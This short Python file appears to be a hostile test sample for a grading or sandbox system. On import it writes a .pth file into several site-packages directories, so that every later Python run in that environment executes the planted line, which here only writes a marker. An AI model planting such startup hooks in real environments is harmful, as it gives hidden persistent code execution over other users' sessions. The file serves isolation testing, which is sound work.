# mypy: ignore-errors
# Planting: at import it writes a .pth file into every site-packages it can name, so that the
# next Python started there (the next student's check, the teacher's shell) runs its code.
import os
import sys
import sysconfig

LINE = "import os; open('__MARKER__', 'w').write('planted')\n"
for folder in {"__SITE__", sysconfig.get_paths()["purelib"], os.path.join(sys.prefix, "lib")}:
    try:
        with open(os.path.join(folder, "zz_hostile.pth"), "w") as file:
            file.write(LINE)
    except OSError:
        pass
